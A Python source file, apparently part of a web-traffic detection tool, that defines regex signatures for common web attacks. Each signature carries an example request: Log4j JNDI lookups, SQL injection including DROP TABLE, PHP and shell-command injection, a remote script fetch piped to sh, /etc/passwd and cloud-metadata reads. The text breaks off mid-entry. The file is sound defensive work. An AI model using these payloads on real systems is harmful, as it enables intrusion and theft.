"""What attacks look like in one request: a table. A new signature is one row with an example, which the tests send.

General constructions come before remembered lines: `union ... select` finds next year's payload too. Patterns meet
text whose encodings were undone (matching.plain), so they are written once: lower case, one space for many. Each
repetition is bounded, or what it repeats cannot match what follows: nobody may slow us down with a long address.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Literal

# "raw" is the path as it was sent, encodings and all; "target" is path?query, only where there is a query.
Part = Literal["path", "query", "agent", "referer", "raw", "target"]

URL: tuple[Part, ...] = ("path", "query")
TARGET: tuple[Part, ...] = ("path", "target")
HEADERS: tuple[Part, ...] = ("agent", "referer")
ANYWHERE: tuple[Part, ...] = URL + HEADERS

EXPLOIT = "exploit"
SENSITIVE_FILE = "sensitive-file"
FOREIGN_SOFTWARE = "foreign-software"
SCANNER_AGENT = "scanner-agent"


@dataclass(frozen=True, slots=True)
class Signature:
    """One construction that nobody sends by accident."""

    name: str
    symptom: str
    where: tuple[Part, ...]
    pattern: str
    literals: tuple[str, ...]  # one must be there before the pattern is tried; letters and digits alone: a whole word
    reason: str
    example: str  # a request target, or the header's value
    unless_served: bool = False  # nothing to see where the site answered with the thing itself


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


# The events of a page that run code; "onsale=" is none.
_EVENT = (
    r"on(?:error|load|unload|click|dblclick|mouse\w{1,8}|pointer\w{1,8}|touch\w{1,8}|key\w{1,8}|focus\w{0,3}|blur"
    r"|submit|change|input"
    r"|toggle|animation\w{1,9}|transition\w{1,9}|begin|end|start|finish|drag\w{0,6}|drop|copy|cut|paste"
    r"|scroll\w{0,3}|resize|wheel"
    r"|before\w{1,12}|hashchange|message|popstate|pageshow|readystatechange|contextmenu|select\w{0,6}|search|show"
    r"|invalid)"
)

SIGNATURES: tuple[Signature, ...] = (
    # --- exploits: injections, whatever software they are meant for -------------------------------------------------
    Signature(
        "jndi",
        EXPLOIT,
        ANYWHERE,
        r"\$\{\s?(?:(?:jndi|lower|upper|env|sys|java|main|ctx|date|base64|bundle|web|docker|k8s)\s?:|::-"
        r"|[^}]{0,40}\$\{)",
        ("${",),
        "A lookup that Log4j evaluates where it logs the text (CVE-2021-44228), also in its nested disguises.",
        "/?x=${${lower:j}ndi:ldap://198.51.100.7/a}",
    ),
    Signature(
        "expression-language",
        EXPLOIT,
        ANYWHERE,
        r"[$%#*]\{[^}]{0,200}(?:@java|@org\.|#_memberaccess|#context|getruntime|processbuilder"
        r"|\d{1,12}\s?[*+]\s?\d{1,12}|\.class\.|getclass|forname)"
        r"|java\.lang\.(?:runtime|process)|opensymphony|ognl\.|_memberaccess|multipart/form-data.{0,20}%\{",
        ("${", "%{", "#{", "*{", "lang", "opensymphony", "ognl", "memberaccess"),
        "Java expression languages (OGNL, SpEL, EL) reach the runtime: Struts, Confluence, Spring.",
        "/${(#a=@java.lang.Runtime@getRuntime().exec('id'))}/",
    ),
    Signature(
        "template-injection",
        EXPLOIT,
        URL,
        r"\{\{.{0,80}(?:\d{1,12}['\"]?\s?\*\s?['\"]?\d{1,12}|__class__|config\.(?:items|__)|request\.(?:application"
        r"|__)|lipsum|cycler"
        r"|_self\.|constructor\.)|<%=?\s?\d{1,12}\s?\*\s?\d{1,12}|__(?:subclasses|globals|builtins|import)__"
        r"|freemarker\.template\.utility|\?new\(\)\(",
        ("{{", "<%", "__", "freemarker", "?new"),
        "Template engines (Jinja, Twig, ERB) evaluate it; 7*7 is the usual first try. A name alone is a page's own "
        "slip.",
        "/search/?q={{7*7}}",
    ),
    Signature(
        "shellshock",
        EXPLOIT,
        ("query", "agent", "referer"),
        r"\(\)\s{0,3}\{.{0,20};",
        ("()",),
        "A function definition that an old bash runs when it reaches its environment (CVE-2014-6271).",
        "() { :; }; /bin/bash -c id",
    ),
    Signature(
        "path-traversal",
        EXPLOIT,
        URL,
        r"(?<!\.)(?:\.{2,600}(?:[\\/]{1,12}|0x2f|0x5c|%2f"
        r"|%5c)(?:\./{1,3})?){2}"  # two steps up: some broken crawlers send one
        r"|(?:^|[\\/=])(?:\.\.\\|\.\.;[\\/])|\.\.[\\/]{1,12}(?:etc|windows|winnt|proc|web-inf|boot\.ini)\b"
        r"|(?:0x2e){2}|(?:^|/)\.{4,}[\\/]",
        ("..", "/0x2e"),
        "Steps out of the directory that is served. Browsers resolve them before they ask.",
        "/static/../../../app/settings.py",
    ),
    Signature(
        "encoded-traversal",
        EXPLOIT,
        ("raw",),
        r"(?:\.|%(?:25){0,4}2e|%(?:c0%ae|c0%2e|e0%80%ae|u002e)){2};?(?:%(?:25){0,4}(?:2f|5c)|%(?:c0%af|c1%9c"
        r"|e0%80%af|u2215))"
        r"|(?:%(?:25){0,4}2e|%(?:c0%ae|c0%2e|e0%80%ae|u002e))(?:\.|%(?:25){0,4}2e|%(?:c0%ae|c0%2e|e0%80%ae"
        r"|u002e))(?:[/\\;]|$)"
        r"|(?:^|/)\.%(?:25){0,4}2e(?:[/\\;]|$)",
        ("%2e", "%25", "%c0", "%u00", "%e0", "..%"),
        "A step up whose dots or slash are written in escapes, which only someone who hides it does.",
        "/%252e%252e%252fconsole",
    ),
    Signature(
        "system-file",
        EXPLOIT,
        URL,
        r"(?:^|[\\/=:.])etc[\\/]{1,12}(?:passwd|shadow|groups?|hosts|issue|sudoers|crontab)\b|(?:^"
        r"|[\\/=])proc[\\/]{1,12}(?:self|version)\b"
        r"|\b(?:win|boot|system)\.ini\b|[\\/]windows[\\/]{1,12}system32|[\\/]system32[\\/]|(?:^|[\\/=])web-inf[\\/]"
        r"|/dev/cmdb/|/var/log/(?:auth|apache|nginx|mail|messages)|etcpasswd\b",
        _words("passwd shadow group groups hosts issue sudoers crontab etcpasswd proc ini system32 inf cmdb log"),
        "A file of the operating system or of the application server, asked for by name.",
        "/download?file=/etc/passwd",
    ),
    Signature(
        "stream-wrapper",
        EXPLOIT,
        URL,
        r"(?:^|[=/('\"])(?:php|expect|phar|zlib|glob|gopher|dict|ldaps?|jar|netdoc|input|ogg|ssh2|rar"
        r"|compress\.zlib)://"
        r"|(?:^/?|=['\"]?)file:/|data:[a-z/+;-]{0,40}base64,(?=.{0,40}pd9waha)",
        ("://", "file:", "base64"),
        "A stream that PHP or Java opens as if it were a file: reads code, runs commands, reaches inner hosts.",
        "/?page=php://filter/convert.base64-encode/resource=index",
    ),
    Signature(
        "remote-file",
        EXPLOIT,
        ("query",),
        r"=(?:https?|ftps?)://[^&\s]{1,200}(?:\.(?:txt|dat|inc)\?|\?\?)\s?(?:$|&)",
        ("://",),
        "A script at another host to be included; the closing question mark cuts off what the victim appends.",
        "/index.php?page=http://198.51.100.7/shell.txt?",
    ),
    Signature(
        "cloud-metadata",
        EXPLOIT,
        URL,
        r"169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|latest/meta-data",
        _words("169 metadata 100 meta"),
        "The address where a cloud host gives out its own credentials: the aim of request forgery.",
        "/fetch?url=http://169.254.169.254/latest/meta-data/",
    ),
    Signature(
        "sql-union",
        EXPLOIT,
        URL,
        r"\bunion\b[\s(+]{0,12}(?:all|distinct)?[\s(+]{0,12}\bselect\b[\s(+]{0,12}(?:$|all\b|distinct|null|n?char"
        r"|concat|['\"\d@*-]"
        r"|[\w.@]{1,40}\s{0,3}(?:,|\(|\bfrom\b))",
        ("union",),
        "A second query joined to the first to read other tables.",
        "/products/?id=1+UNION/**/ALL+SELECT+null,version()--",
    ),
    Signature(
        "sql-condition",
        EXPLOIT,
        URL,
        r"\b(?:or|and|xor|having|where|rlike|when|not|if)\b[\s('\"%+!-]{0,12}(?:\d{1,12}|'[^']{0,40}'"
        r"|\"[^\"]{0,40}\")[\s)'\"]{0,12}"
        r"(?:=|<>|!=|<|>|\blike\b)[\s('\"%]{0,12}(?:\d|['\"]|\(?select\b|\w{1,40}\s{0,3}\()"
        r"|['\"]\s{0,3}(?:or|and|\|\||&&)\s{0,3}['\"(]{0,12}\w{0,40}['\")]{0,12}\s{0,3}(?:=|<>|!="
        r"|\blike\b)\s{0,3}['\"(]"
        r"|['\"]\s{0,3}(?:or|and)\s{1,3}(?:\d{1,12}|true|not\s{1,3}false)\s{0,3}(?:--|#|/\*|$)"
        r"|\b(?:and|or)\s{1,3}(?:elt|row|ascii|ord|exists|length|updatexml|extractvalue|if|char_length"
        r"|make_set)\s{0,3}\("
        r"|['\"=]\s{0,3}\*?\s{0,3}(?:rlike|regexp|sounds\s{1,3}like)\s{0,3}[('\"]",
        _words("or and xor having where rlike regexp when sounds not if || &&"),
        "A condition that is always true, or asks one bit at a time, put behind the value.",
        "/products/?id=1'+OR+'1'='1",
    ),
    Signature(
        "sql-function",
        EXPLOIT,
        URL,
        r"\bsleep(?:\(| \(\d{1,2}\))|\b(?:pg_sleep|benchmark|randomblob|load_file|extractvalue|updatexml|xp_cmdshell"
        r"|sp_password|xmltype"
        r"|utl_(?:http|inaddr)|dbms_\w{1,40}|generate_series|group_concat|convert_from|sqlid_to_sqlhash|ctxsys|elt"
        r"|receive_message|regexp_substring|regexp_like|make_set)(?:\(|\.)|waitfor\s{1,3}(?:delay|time)\b"
        r"|\buser_lock\.sleep|\bprocedure\s{1,3}analyse\b",
        _words("sleep benchmark randomblob extractvalue updatexml cmdshell password xmltype utl dbms generate concat")
        + _words("convert sqlid ctxsys elt receive regexp make waitfor analyse file"),
        "Database functions that wait, fail loudly or reach out, so that a blind attacker learns something.",
        "/products/?id=1;SELECT+pg_sleep(5)",
    ),
    Signature(
        "sql-subquery",
        EXPLOIT,
        URL,
        r"\(\s{0,3}select\b[\s(]{0,12}(?:['\"\d@*]|\w{1,40}\s{0,3}[,(*]|\w{1,40}\s{1,3}(?:from|where)\b|case\b|count"
        r"|concat|char)"
        r"|\bselect\b\s{0,3}(?:\*|@@\w|count\(|char\(|concat\(|\d{1,12}\s{1,3}from\b)"
        r"|\bselect\s{0,3}\(?\s{0,3}case\s{1,3}when\b"
        r"|\bcase\s{1,3}when\s{0,3}\(|\biif\s{0,3}\(\s{0,3}\d|\bif\s{0,3}\(\s{0,3}\d{1,12}\s{0,3}=\s{0,3}\d{1,12}"
        r"|\bconvert\s{0,3}\(\s{0,3}int\b",
        _words("select case iif if convert"),
        "A query inside the value.",
        "/products/?id=(SELECT+count(*)+FROM+users)",
    ),
    Signature(
        "sql-schema",
        EXPLOIT,
        URL,
        r"\binformation_schema\b|\bsqlite_master\b|\bpg_catalog\b|\bmysql\.user\b|\bsysibm\.|\brdb\$|\bsys(?:objects"
        r"|columns"
        r"|databases|users)\b|\ball_tables\b|\bmsysaccessobjects\b|\bdomain\.(?:domains|tables)\b|\bmaster\.\.\w"
        r"|\binto (?:out|dump)file\b|\bselect\b.{1,80}\bfrom dual\b",
        _words(
            "information sqlite pg mysql sysibm rdb sysobjects syscolumns sysdatabases sysusers all msysaccessobjects"
        )
        + _words("domain master outfile dumpfile dual"),
        "The tables that describe the tables, or a query's result written to disk.",
        "/products/?id=1+from+information_schema.tables",
    ),
    Signature(
        "sql-stacked",
        EXPLOIT,
        URL,
        r"['\")\d\s];\s{0,3}(?:begin|drop|insert|update|delete|alter|create|exec|execute|declare|shutdown|truncate"
        r"|select|call"
        r"|grant)\b(?:\s{1,3}(?:table|into|user|database|or|from|master|function|procedure|column|@)"
        r"|[\s('\"*@]{0,12}[\w.@]{1,40}"
        r"\s{0,3}(?:\(|=|,|\bset\b|\bfrom\b|--))",
        (";",),
        "A second statement behind the first.",
        "/products/?id=1';DROP+TABLE+users--",
    ),
    Signature(
        "sql-breakout",
        EXPLOIT,
        URL,
        r"['\"][\s)]{0,8}(?:--[\s-]{0,4}(?:$|&)|#\s?$|/\*)|['\")]\s?(?:order|group) by \d{1,12}\s?(?:--|#|,|$)"
        r"|\d (?:order|group) by \d{1,12}"
        r"\s?(?:--|#)|['\"]\s?\|\|\s?(?:\(|['\"]|\w{1,40}\()|\|\|\s?chr\(|\bchr?\(\d{1,12}\)\s?(?:\|\||\+)"
        r"|['\"][\s)]{1,8}(?:as \w{1,20} )?where \d{1,12}\s?=|\bin boolean mode\b"
        r"|\b(?:ascii|ord|substr|substring|substrc|mid|unhex|md5|hex|upper|lower|distinct|selectchar|char|chr|cast)\("
        r"(?:$|\(?select\b|0x|(?:n?char|user|database|version|current_user|@@\w{1,40})\b)",
        ("--", "#", "/*", "||", "by", "chr", "char", "where", "boolean")
        + _words("ascii ord substr substring substrc mid unhex md5 hex upper lower distinct selectchar cast"),
        "The quote closed and the rest of the query cut off or joined on.",
        "/products/?id=1')--",
    ),
    Signature(
        "script-injection",
        EXPLOIT,
        ANYWHERE,
        r"</?\s?(?:script|iframe|bgsound|frameset|object|embed|applet|xss|noscript)\b|<\s?\?(?:import|xml)"
        r"|<\s?\w{1,60}[^>]{0,200}?[\s/\"'`]" + _EVENT + r"\s?=|[\"'`]\s?(?:style|" + _EVENT + r")\s?=\s?[\"'`]?[a-z(]"
        r"|(?:java|vb|live|mocha)script\s?:\s?(?:[^\s]{0,60}[(=\[]|//)|[=\"'`]\s?mocha:|data\s?:\s?text/html"
        r"|\bexpr(?:ession\(\w|/\*)"
        r"|string\.?\[?'?fromcharcode|\bdocument\.(?:cookie|write|location|domain)|-o-link"
        r"|\b(?:alert|prompt|confirm|eval)\((?:['\"/`\d]|document|string|window|this|[a-z]{1,20}\))"
        r"|<\s?(?:img|svg|body|base|link|meta|style|input|details|video|audio|math|marquee|a|div|xml|html)\b[^>]{0,200}"
        r"(?:(?:src|href|style|data|background|content|datasrc|action)\s?=|>)(?=.{0,300}(?:script|alert|xss|url\("
        r"|expr))",
        (
            "<",
            "javascript",
            "vbscript",
            "livescript",
            "mocha",
            "expression",
            "fromcharcode",
            "document",
            "link",
            "alert",
        )
        + ("prompt", "confirm", "eval", "text/html", "expr", '"', "'", "`"),
        "Markup or code that would run in another visitor's browser.",
        "/search/?q=<svg/onload=alert(1)>",
    ),
    Signature(
        "shell-command",
        EXPLOIT,
        URL,
        r"(?:[;|&`\n]|\$\()\s?(?:/(?:usr/)?s?bin/)?(?:"
        r"(?:wget|curl|tftp|busybox|nslookup|chmod|uname|whoami|ifconfig|ipconfig|netcat|nc|powershell|python\d?"
        r"|perl)\b\s?"
        r"(?:-\w|/|\$|https?:|\d{1,3}\b|['\"`]|$)"
        r"|(?:cat|ls|rm|echo|cd|bash|sh|ping|dir)\b\s?(?:/\w|\.\./|-[a-z]{1,3}\b|\$\w|[a-z]:)|sleep \d{1,3}\s?(?:$"
        r"|[;|&`#])"
        r"|(?:whoami|ifconfig|uname)\s?(?:[`)|;&]|$))"
        r"|`\s?\w{2,10}\s?`|\$\((?:id|ls|pwd|env|cat)\b|=\w?[;|]\s?id\s?(?:[;|&]|$)|[;|&]\s?(?:/usr)?/bin/\w"
        r"|\bcd /tmp|\bcd/tmp|\brm -rf"
        r"|\bchmod [+0-7]|\b(?:wget|curl) (?:-\w{1,8} ){0,4}https?:|(?:^|[=\s;|&])/(?:usr/)?bin/\w{1,12}[;|&]"
        r"|/bin/(?:ba|da|z|k|c|tc)?sh\b|\bcmd(?:\.exe)?\s?/c\b|\bpowershell(?:\.exe)? -|\$\{?ifs\b"
        r"|;\s?\w{0,10}sh -[ci]\b",
        (";", "|", "`", "$(", "&&", "&", "\n", "bin", "cmd", "powershell", "ifs", "tmp", "rm", "chmod", "wget", "curl"),
        "A command for the shell behind a separator.",
        "/ping?host=127.0.0.1;cat+/etc/issue",
    ),
    Signature(
        "shell-in-header",
        EXPLOIT,
        HEADERS,
        r"(?:[;|`\n]|&&|\$\()\s?(?:/(?:usr/)?bin/)?(?:wget|curl|tftp|busybox|chmod|nslookup|powershell)\b\s?(?:-\w|/"
        r"|\$|https?:|\d)"
        r"|/bin/(?:ba|da|z|k|c|tc)?sh\b|\bcd /tmp|\brm -rf|\b(?:wget|curl) (?:-\w{1,8} ){0,4}https?:|\$\{?ifs\b",
        ("bin", "tmp", "rm", "wget", "curl", "tftp", "busybox", "chmod", "nslookup", "powershell", "ifs"),
        "The same in a header. Fewer words: an agent's list of languages holds `; id;` by right.",
        "Mozilla/5.0; wget http://198.51.100.7/x.sh -O- | sh",
    ),
    Signature(
        "php-code",
        EXPLOIT,
        ANYWHERE,
        r"<\?(?:php|=|\s?(?:echo|system))|\b(?:shell_exec|passthru|proc_open|popen|pcntl_exec|phpinfo|call_user_func"
        r"|file_put_contents|file_get_contents|base64_decode|gzinflate|str_rot13|create_function|md5)\("
        r"|\b(?:assert|eval|system|exec|print_r|die|fwrite)\(['\"$@]|\b(?:eval|print|die|assert)\((?:md5|base64|chr"
        r"|str|\$)"
        r"|\bcall_user_func_array\b|allow_url_(?:include|fopen)|auto_(?:prepend|append)_file|disable_functions"
        r"|\$_(?:get|post|request|server|cookie)\b|\bpearcmd\b.{0,20}config-create|\+config-create\+",
        _words(
            "php exec passthru popen proc phpinfo func call contents decode gzinflate rot13 create assert eval "
            "system md5"
        )
        + _words("print die fwrite allow auto disable get post request server cookie pearcmd pcntl")
        + ("<?",),
        "PHP to be run by a careless include, eval or upload.",
        "/index.php?cmd=<?php+system('id');?>",
    ),
    Signature(
        "xml-entity",
        EXPLOIT,
        URL,
        r"<!(?:doctype|entity)\b|<!\[cdata\[",
        ("<!",),
        "An XML document that defines entities, which a careless parser resolves to files and hosts.",
        "/api/?xml=<!ENTITY+x+SYSTEM+'file:///etc/hostname'>",
    ),
    Signature(
        "header-injection",
        EXPLOIT,
        URL,
        r"[\r\n]{1,12}\s{0,3}(?:set-cookie|location|content-(?:type|length)|host|x-[a-z-]{2,20}|http/1\.[01])\s{0,3}:?",
        ("\r", "\n"),
        "A line break that would start a header or a second answer.",
        "/go?to=%0d%0aSet-Cookie:+a=b",
    ),
    Signature(
        "deserialisation",
        EXPLOIT,
        ANYWHERE,
        r"\bo:\d{1,3}:\"[\w\\]{1,80}\":\d|(?:^|[=\s])ro0ab[xq]|\baced0005|__reduce__|!!python/|\byso\w{0,60}serial",
        ("o:", "ro0abx", "ro0abq", "ro0ab", "aced0005", "reduce", "python", "ysoserial"),
        "A serialised object that runs code while it is read.",
        '/?data=O:8:"Evil\\Gadget":1:{}',
    ),
    Signature(
        "prototype-pollution",
        EXPLOIT,
        URL,
        r"__proto__|constructor[\[.]{1,12}prototype",
        _words("proto prototype"),
        "Changes every object of a JavaScript server.",
        "/?__proto__[admin]=1",
    ),
    Signature(
        "open-proxy",
        EXPLOIT,
        ("path",),
        r"^(?:https?:)?//[^/]{1,200}:\d{1,5}(?:/|$)|^(?:[\w-]{1,60}\.){1,8}[a-z]{2,20}:\d{1,5}$"
        r"|^\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?$"
        r"|^https?://[^/]{1,200}/\S{0,100}(?:azenv|judge|proxy|prx|ip\d?|check|headers?)\w{0,20}\.(?:php\d?|cgi|txt"
        r"|html?|jsp|aspx?)\b",
        (":", "."),
        "Another host's full address: someone tries whether this server fetches pages for strangers.",
        "http://judge.example:80/ip.php",
    ),
    Signature(
        "http-version",
        EXPLOIT,
        ("path",),
        r"^[a-z]{3,10} \S{1,400} http/\d{1,3}(?:\.\d{1,3})?$",
        ("http",),
        "A version of HTTP that does not exist (the others are taken off the path): flood tools vary what they can.",
        "GET / HTTP/1.2",
    ),
    Signature(
        "disguised-ending",
        EXPLOIT,
        ("path",),
        r"\.(?:php|jspx?|aspx?|ashx|action|do|cgi)/\.[\w.]{1,8}$|;/?\.(?:jsp|css|js|png|ico|html?)$|/\.\.cfide/",
        (";", "/.", "cfide"),
        "An ending that a filter lets pass, behind what the server will run: /admin.php/.css, /rest/server;.jsp.",
        "/apps/graphapi/tests/GetPhpInfo.php/.css",
    ),
    Signature(
        "parameter-twice",
        EXPLOIT,
        ("query",),
        r"\[(?:e?mail|user(?:name)?|login)\]\[\].{1,200}\[(?:e?mail|user(?:name)?|login)\]\[\]",
        _words("email mail user username login"),
        "A second address for one account's new password, which then goes to both (CVE-2023-7028).",
        "/users/password?user[email][]=ada@example.org&user[email][]=eve@example.net",
    ),
    # --- exploits: of one product, each known by its own path --------------------------------------------------------
    Signature(
        "phpunit",
        EXPLOIT,
        ("path",),
        r"/eval-stdin\.php|/phpunit/(?:src/)?util/php/",
        _words("phpunit stdin"),
        "PHPUnit's runner of code from the request body (CVE-2017-9841).",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ),
    Signature(
        "thinkphp",
        EXPLOIT,
        URL,
        r"invokefunction|[\\/]think[\\/](?:app|container|view|module|config|request|template|lang)\b"
        r"|\blang=.{0,10}\.\./.{0,80}pearcmd",
        _words("invokefunction think pearcmd"),
        "ThinkPHP calls any function that the route names (CVE-2018-20062).",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=phpinfo",
    ),
    Signature(
        "spring-binding",
        EXPLOIT,
        URL,
        r"class\.module\.classloader|classloader[.\[](?:resources|urls|default|parent)|spring\.cloud\.function",
        _words("classloader spring"),
        "Request parameters bound to the class loader (Spring4Shell, CVE-2022-22965).",
        "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    ),
    Signature(
        "spring-gateway",
        EXPLOIT,
        ("path",),
        r"/actuator/gateway/(?:routes|refresh)|/actuator/(?:restart|refresh|jolokia|shutdown)\b",
        _words("actuator"),
        "Spring's management routes that change the running application (CVE-2022-22947).",
        "/actuator/gateway/routes/new",
    ),
    Signature(
        "java-server",
        EXPLOIT,
        ("path",),
        r"/wls-wsat/|/_async/asyncresponseservice|/invoker/(?:jmx|ejb)invokerservlet|/jmxinvokerservlet"
        r"|/jmx-console/htmladaptor"
        r"|/console/(?:css|images)/.{0,20}\.\.|/bea_wls_deployment|/descriptorbyname/.{0,80}(?:script|groovy|check)"
        r"|/webtools/control/(?:programexport|xmlrpc|forgotpassword/)|/struts2?-?(?:showcase|rest-showcase)/"
        r"|/geoserver/.{0,20}wfs.{0,20}exec"
        r"|/nacos/v\d/(?:auth|cs)/|/solr/\w{1,40}/(?:config|dataimport|debug/dump)\b|/ws/v1/cluster/apps|/jolokia/"
        r"|/hystrix;",
        _words(
            "wls asyncresponseservice invoker jmxinvokerservlet jmx console bea descriptorbyname webtools struts "
            "struts2"
        )
        + _words("showcase geoserver nacos solr cluster jolokia hystrix"),
        "Entrances of Java servers (WebLogic, JBoss, Jenkins, OFBiz, Nacos, Solr, YARN) that ran code for strangers.",
        "/wls-wsat/CoordinatorPortType",
    ),
    Signature(
        "confluence",
        EXPLOIT,
        TARGET,
        r"/setup/setupadministrator|/setup/(?:setup|finishsetup)[\w-]{0,60}\.action|/server-info\.action\?"
        r"|bootstrapstatusprovider"
        r"|/pages/createpage-entervariables\.action|/json/setup-restore|/template/aui/text-inline\.vm",
        _words("setupadministrator setup bootstrapstatusprovider createpage inline action"),
        "Confluence's set-up left open (CVE-2023-22515 and kin).",
        "/setup/setupadministrator.action",
    ),
    Signature(
        "laravel-ignition",
        EXPLOIT,
        ("path",),
        r"/_ignition/(?:execute-solution|share-report|update-config)",
        ("ignition",),
        "Laravel's error page runs what it is sent (CVE-2021-3129).",
        "/_ignition/execute-solution",
    ),
    Signature(
        "vpn-appliance",
        EXPLOIT,
        TARGET,
        r"/tmui/.{0,60}(?:\.\.;|workspace|hsqldb)|/mgmt/(?:tm/util/bash|shared/authn)|/vpns/(?:portal|cfg|services"
        r"|scripts)"
        r"|/remote/(?:fgt_lang|hostcheck_validate|logincheck)\b|sslvpn_websession|/dana-(?:na|ws|cached)/.{0,80}\.\."
        r"|/dana(?:-na|-ws)?/.{0,60}(?:meeting|totp|saml20|xmlrpc)|/api/v1/totp/user-backup-code|/\+cscot\+/(?:oem"
        r"|translation)"
        r"|/\+csco\w\+/.{0,40}\.\.|/ssl-vpn/(?:hipreport|getconfig)|/global-protect/(?:\.\."
        r"|portal/images/\S{1,200}\.php)"
        r"|/sslvpn/.{0,40}(?:;|\.\.)|/cgi-bin/(?:dispatcher|ztp/cgi-bin|jarrewrite)"
        r"|/clients/mycrl|/php/utils/createremoteappwebsession|/webui/logoutconfirm\.html\?|/api/v2/cmdb/",
        _words(
            "tmui mgmt vpns remote websession sslvpn dana totp cscot cscoe csco ssl global dispatcher ztp jarrewrite"
        )
        + _words("mycrl createremoteappwebsession webui cmdb fgt"),
        "F5, Citrix, Fortinet, Pulse, Cisco, Palo Alto: appliances at the edge, and the paths of their holes.",
        "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp",
    ),
    Signature(
        "router",
        EXPLOIT,
        TARGET,
        r"/boaform/|/boafrm/|/gponform/|/goform/(?!$)|/ctrlt/deviceupgrade|/picsdesc\.xml|/wanipcn\.xml"
        r"|/sdk/weblanguage|/cgi-bin/"
        r"(?:luci/;?stok|luci/.{0,60}(?:\$\(|`)|mainfunction|nas_sharing|account_mgr|system_mgr|kerbynet|rpc"
        r"|supervisor|"
        r"execute_cmd|hi3510)|(?:setup|apply|board|diagnostic|tmunblock)\.cgi\?.{0,80}(?:cmd|command|exec|todo="
        r"|ping)|^/shell\?"
        r"(?:cd|wget|curl|\S{0,40}rm)\b|/language/swedish|/device\.rsp\?|/hnap1/.{0,30}soap|next_file=.{0,40}todo="
        r"|todo=syscmd|/apply_sec|/ubus/"
        r"|/linuxki/|/web_shell_cmd|/stssys\.htm|/currentsetting\.htm",
        _words(
            "boaform boafrm gponform goform deviceupgrade picsdesc wanipcn sdk luci mainfunction nas account system "
            "kerbynet"
        )
        + _words(
            "rpc supervisor cmd shell hi3510 setup apply board diagnostic tmunblock hnap1 swedish device todo ubus "
            "linuxki"
        )
        + _words("stssys currentsetting"),
        "Home routers, cameras and storage boxes, and the forms that botnets enter them by.",
        "/boaform/admin/formLogin?username=admin&psd=admin",
    ),
    Signature(
        "php-cgi",
        EXPLOIT,
        URL,
        r"/php-?cgi(?:\.exe)?\b|/cgi-bin/php\d?(?:\.cgi|-cgi)?\b"
        r"|^[-\s\ufffd\xad]{1,12}d\s{0,3}[+\s]{0,12}(?:allow_url|auto_prepend|cgi\.|disable)",
        _words("cgi allow auto phpcgi php"),
        "PHP run as CGI takes its switches from the query (CVE-2012-1823, CVE-2024-4577).",
        "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1",
    ),
    Signature(
        "shell-path",
        EXPLOIT,
        ("path",),
        r"^/?(?:cgi-bin/)?(?:\.{0,2}/){0,20}bin/(?:ba|da|z|k|c)?sh$|^/shell$",
        _words("sh bash dash zsh ksh csh shell"),
        "The shell asked for as if it were a page.",
        "/bin/sh",
    ),
    Signature(
        "web-shell",
        EXPLOIT,
        ("path",),
        r"(?:^|[/_.-])(?:web)?(?:shell|c99\w{0,60}|r57\w{0,60}|wso\w{0,60}|b374k|cmd|alfa|alfa-?rex\w{0,60}"
        r"|alfacgiapi|backdoor|webshell|antichat|weevely"
        r"|indoxploit|gelay|fierza|marijuana|madspot|fox-?wso|mini-?shell|adminer-shell|k2ll33d|priv8|hacked|uploader"
        r"|symlink|leafmailer|alexus|xleet|gecko-?litespeed|0byt3)\d{0,12}\.(?:php\d?|phtml|aspx?|ashx|jspx?|cfm|pl)\b",
        _words(
            "shell c99 c99shell r57 r57shell wso wso1 wso2 b374k cmd alfa alfarex alfacgiapi backdoor webshell "
            "antichat weevely"
        )
        + _words(
            "indoxploit gelay fierza marijuana madspot fox minishell k2ll33d priv8 hacked uploader symlink leafmailer"
        )
        + _words("alexus xleet gecko 0byt3 rex mini litespeed"),
        "A back door that an earlier attacker may have left: the next one looks for it.",
        "/wp-content/uploads/wso.php",
        unless_served=True,
    ),
    Signature(
        "exchange",
        EXPLOIT,
        TARGET,
        r"/autodiscover/autodiscover\.json.{0,40}(?:@|powershell|mapi)|/ecp/(?:proxylogon|y\.js|default\.flt"
        r"|\w{1,20}\.js$)"
        r"|/owa/auth/(?!logo[nf]|errorfe|signout|expired|1[0-9]\.)[\w-]{1,20}\.(?:js|aspx)$|/mapi/nspi"
        r"|/powershell/?\?x-rps-cat",
        _words("autodiscover ecp owa mapi powershell"),
        "Microsoft Exchange: ProxyLogon and ProxyShell.",
        "/autodiscover/autodiscover.json?@evil.example/owa/&Email=a",
    ),
    Signature(
        "admin-product",
        EXPLOIT,
        TARGET,
        r"/guestaccess\.aspx|/moveitisapi/|/human2\.aspx|/setupwizard\.aspx/|/remote_agent\.php"
        r"|/ajax/render/widget_tabbed"
        r"|element_parents=|/user/register\?.{0,40}ajax|/cms_wysiwyg/directive|/webadmin/(?:scripts|out)"
        r"|/zimbraadmin/.{0,40}\.\."
        r"|/service/extension/backup|/sitecore/shell/.{0,40}report|/telerik\.web\.ui\.webresource\.axd\?type=rau"
        r"|/lucee/admin/imgprocess"
        r"|/cfide/.{0,60}(?:locale=|\.\.|wizards)|/containers/(?:json|create)|/v\d\.\d\d/(?:containers|images)/"
        r"|/druid/indexer"
        r"|/_users/org\.couchdb|/_config/query_servers|/scripts/setup\.php|/pma/scripts",
        _words(
            "guestaccess moveitisapi human2 setupwizard remote render parents register directive webadmin zimbraadmin"
        )
        + _words("extension sitecore telerik lucee cfide containers images druid couchdb servers scripts"),
        "Products for administrators with a hole of their own: MOVEit, ScreenConnect, Cacti, vBulletin, Drupal, "
        "Docker...",
        "/pma/scripts/setup.php",
    ),
    Signature(
        "upload-script",
        EXPLOIT,
        ("path",),
        r"/(?:wp-file-manager|elfinder|kcfinder|fckeditor|ckfinder|filemanager|file-manager|uploadify|plupload"
        r"|jquery[.-]?file[.-]?upload|blueimp[\w-]{0,20}|revslider|formcraft|server/php)/[\w./-]{0,80}"
        r"(?:connector|upload|uploadhandler|index|browse)[\w.]{0,12}\.(?:php\d?|aspx?|cfm|jsp)$",
        _words(
            "connector upload uploadify uploadhandler browse elfinder fckeditor kcfinder ckfinder plupload revslider"
        )
        + _words("formcraft filemanager"),
